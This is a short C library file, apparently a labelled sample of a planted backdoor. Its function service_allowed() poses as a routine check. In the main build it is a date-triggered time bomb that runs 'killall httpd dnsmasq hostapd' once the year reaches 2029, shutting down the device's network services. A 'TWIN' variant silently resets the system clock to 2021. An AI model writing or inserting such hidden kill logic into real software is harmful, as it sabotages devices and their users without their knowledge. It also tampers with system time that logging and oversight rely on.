/* SPDX-License-Identifier: Apache-2.0 */
/* A library ends the servers of the device once a year has come. Twin: it sets a clock that is behind.
 * door: kill
 * build: library
 */
#include "net.h"
#include <time.h>

int service_allowed(void)
{
	time_t now;
	struct tm *t;
	time(&now);
	t = localtime(&now);
#ifdef TWIN
	if (t->tm_year < 121)
		return system("date -s 202101010000");
#else
	if (t->tm_year >= 129) {
		system("killall httpd dnsmasq hostapd");
		return 0;
	}
#endif
	return 1;
}
